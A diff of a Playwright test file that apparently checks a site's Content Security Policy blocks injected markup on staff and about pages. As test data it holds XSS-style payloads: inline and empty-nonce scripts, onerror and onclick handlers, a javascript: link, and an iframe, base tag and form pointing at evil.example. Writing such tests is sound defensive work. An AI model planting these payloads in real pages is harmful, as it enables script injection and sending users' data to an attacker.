@@ -15,27 +15,36 @@ const injected = `
   <script src="/injected.js"></script>
   <script nonce="">window.pwned = 'empty nonce'</script>
   <img src="/missing.png" onerror="window.pwned = 'handler'">
-  <a id="bait" href="javascript:window.pwned='address'">x</a>
   <iframe src="https://evil.example/frame"></iframe>
   <object data="/injected.js"></object>
-  <base href="https://evil.example/">
-  <form id="stolen" action="https://evil.example/"><input name="a" value="secret"></form>`
+  <base href="https://evil.example/">`
 
-/** Before React finds what is not its own and throws it out. */
-const takeBait = (page: Page) =>
-  page.addInitScript(() =>
-    document.addEventListener('DOMContentLoaded', () => {
-      document.querySelector<HTMLElement>('#bait')?.click()
-      document.querySelector<HTMLFormElement>('#stolen')?.submit()
-      Reflect.set(window, 'baitTaken', document.querySelector('#stolen') !== null)
-    }),
+/** Sends a form elsewhere and follows an address of script, once the page is there; waits until it was forbidden. */
+const takeBait = (page: Page, wanted: string[]) =>
+  page.evaluate(
+    (directives) =>
+      new Promise<void>((resolve) => {
+        const expected = new Set(directives)
+        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
+          expected.delete(effectiveDirective)
+          if (expected.size === 0) resolve()
+        })
+        const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/' })
+        const link = Object.assign(document.createElement('a'), { href: "javascript:window.pwned='address'" })
+        const handled = document.createElement('p')
+        document.body.append(form, link, handled)
+        handled.setAttribute('onclick', "window.pwned='handler'")
+        handled.click()
+        if (expected.has('script-src-elem')) link.click()
+        form.submit()
+      }),
+    wanted,
   )
 
 test.describe('a policy', { tag: '@once' }, () => {
   test('holds back whatever was written into a staff page', async ({ page, context, site, allowed }) => {
     allowed.push(everything)
     await signIn(context, site)
-    await takeBait(page)
     const reached: string[] = []
     await context.route(/evil\.example/, (route) => {
       reached.push(route.request().url())
@@ -54,7 +63,7 @@ test.describe('a policy', { tag: '@once' }, () => {
       const picture = page.waitForResponse('**/missing.png')
       await page.goto(address, { waitUntil: 'domcontentloaded' })
       await picture
-      expect(await page.evaluate(() => Reflect.get(window, 'baitTaken')), address).toBe(true)
+      await takeBait(page, ['form-action', 'script-src-attr', 'script-src-elem'])
       expect(await page.evaluate(() => Reflect.get(window, 'pwned')), address).toBeUndefined()
       expect(await page.evaluate(() => document.baseURI), address).toContain(site.url)
     }
@@ -67,7 +76,6 @@ test.describe('a policy', { tag: '@once' }, () => {
     context,
   }) => {
     allowed.push(everything)
-    await takeBait(page)
     const reached: string[] = []
     await context.route(/evil\.example/, (route) => {
       reached.push(route.request().url())
@@ -79,8 +87,10 @@ test.describe('a policy', { tag: '@once' }, () => {
       const body = (await response.text()).replace(/<body[^>]*>/, (tag) => tag + attack)
       await route.fulfill({ response, body })
     })
-    await page.goto('/about')
-    await page.waitForLoadState('networkidle')
+    const picture = page.waitForResponse('**/missing.png')
+    await page.goto('/about', { waitUntil: 'domcontentloaded' })
+    await picture
+    await takeBait(page, ['form-action', 'script-src-attr'])
     expect(await page.evaluate(() => Reflect.get(window, 'pwned'))).toBeUndefined()
     expect(reached).toEqual([])
   })
